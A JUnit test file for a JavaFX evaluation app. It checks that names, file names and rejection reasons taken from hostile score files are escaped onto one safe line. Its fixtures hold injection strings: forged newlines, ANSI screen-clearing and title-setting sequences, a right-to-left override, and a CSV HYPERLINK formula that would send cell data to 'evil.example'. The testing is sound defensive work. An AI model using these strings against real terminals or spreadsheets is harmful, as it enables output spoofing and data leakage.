package jp.clustereval.ui;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.regex.Pattern;

import javafx.scene.control.TableColumn;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import jp.clustereval.domain.Language;
import jp.clustereval.scorefile.CorpusGenerator;
import jp.clustereval.service.ImportOptions;
import jp.clustereval.service.ImportProgress;
import jp.clustereval.ui.completeness.CompletenessRow;
import jp.clustereval.ui.completeness.CompletenessViewModel;
import jp.clustereval.ui.imports.ImportFileRow;
import jp.clustereval.ui.imports.ImportViewModel;
import jp.clustereval.ui.keys.KeyRow;
import jp.clustereval.ui.keys.KeysViewModel;
import jp.clustereval.ui.common.Cells;

/**
 * The chair's windows show names, file names and reasons from hostile files on one line, with
 * control characters escaped (the import list, the completeness matrix and its CSV, the keys list,
 * every text column), without the toolkit.
 */
class HostileTextViewModelsTest {

    private static final Path CORPUS = Path.of("src/test/resources/cescore-corpus");
    private static final Pattern UNSAFE = Pattern.compile("[\\p{Cc}\\p{Cf}\\p{Zl}\\p{Zp}\\p{Cs}]");
    private static final String FORGED = CorpusGenerator.FORGED_LINE;

    @TempDir
    Path dir;
    private VmFixture f;

    @BeforeEach
    void setUp() {
        f = new VmFixture(dir.resolve("chair.db"), Language.EN);
        f.createEvaluator("Chair");
    }

    @AfterEach
    void tearDown() throws Exception {
        f.close();
    }

    private static void assertOneSafeLine(String text) {
        assertFalse(UNSAFE.matcher(text).find(), () -> "not one safe line: " + text);
    }

    @Test
    void theImportListShowsFileNamesEvaluatorsAndReasonsOnOneLine() throws Exception {
        Path inbox = Files.createDirectories(dir.resolve("inbox"));
        Files.copy(CORPUS.resolve("texts/01-forged-rows-and-labels.cescore"), inbox.resolve("evil\n" + FORGED + ".cescore"));
        Files.copy(CORPUS.resolve("43-cluster-forges-a-report-line.cescore"), inbox.resolve("43.cescore"));
        ImportViewModel vm = new ImportViewModel(f.app, f.tasks, evaluators -> { });
        vm.add(List.of(inbox));
        f.awaitIdle();
        assertEquals(2, vm.files().size());
        for (ImportFileRow row : vm.files()) {
            for (String shown : List.of(row.fileName(), row.evaluatorText(), row.reason(), row.clustersText())) {
                assertOneSafeLine(shown);
            }
        }
        ImportFileRow accepted = vm.files().stream().filter(r -> !r.rejected()).findFirst().orElseThrow();
        assertEquals("evil\\n" + FORGED + ".cescore", accepted.fileName());
        assertTrue(accepted.evaluatorText().startsWith("評価 花子\\n[Comment] 偽 太郎 (大学\\r\\n"), accepted.evaluatorText());
        ImportFileRow rejected = vm.files().stream().filter(ImportFileRow::rejected).findFirst().orElseThrow();
        assertEquals("Unknown cluster \"ZZZ\\n" + FORGED + "\".", rejected.reason());
    }

    private void importTexts() throws Exception {
        List<Path> files;
        try (var list = Files.list(CORPUS.resolve("texts"))) {
            files = list.filter(p -> p.toString().endsWith(".cescore")).sorted().toList();
        }
        var imports = f.session.services().imports();
        imports.commit(imports.preview(files, ImportOptions.defaults()), ImportProgress.none(), () -> false);
    }

    @Test
    void theCompletenessMatrixAndItsCsvAndTheKeysListAreSafe() throws Exception {
        importTexts();
        CompletenessViewModel completeness = new CompletenessViewModel(f.app, f.tasks, () -> { });
        completeness.refresh();
        f.awaitIdle();
        assertEquals(5, completeness.rows().size(), "the chair and the four hostile evaluators");
        for (CompletenessRow row : completeness.rows()) {
            assertOneSafeLine(row.evaluatorName());
            assertOneSafeLine(row.accessibleText("SAP", f.app.messages()));
        }
        assertTrue(completeness.rows().stream().anyMatch(r -> r.evaluatorName().equals("\\u001B[2J\\u001B[1;31mEvil\\u001B[0m (\\u001B]0;pwned\\u0007)")),
                completeness.rows()::toString);

        Path csv = dir.resolve("completeness.csv");
        completeness.exportCsv(csv);
        f.awaitIdle();
        String text = Files.readString(csv, StandardCharsets.UTF_8);
        assertTrue(text.contains("\n7e0c1a00-0000-4000-8000-000000000004,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\","),
                text);

        KeysViewModel keys = new KeysViewModel(f.app, f.tasks);
        keys.refresh();
        f.awaitIdle();
        assertEquals(4, keys.rows().size());
        for (KeyRow row : keys.rows()) {
            assertOneSafeLine(row.evaluatorName());
        }
    }

    @Test
    void everyTextColumnShowsOneSafeLine() {
        TableColumn<String, String> column = new TableColumn<>();
        Cells.text(column, s -> s);
        String shown = column.getCellValueFactory().call(new TableColumn.CellDataFeatures<>(null, column,
                "順調\n[Comment] Evaluator 9: \u202Eliaf\u001B[0m")).getValue();
        assertEquals("順調\\n[Comment] Evaluator 9: \\u202Eliaf\\u001B[0m", shown);
    }
}
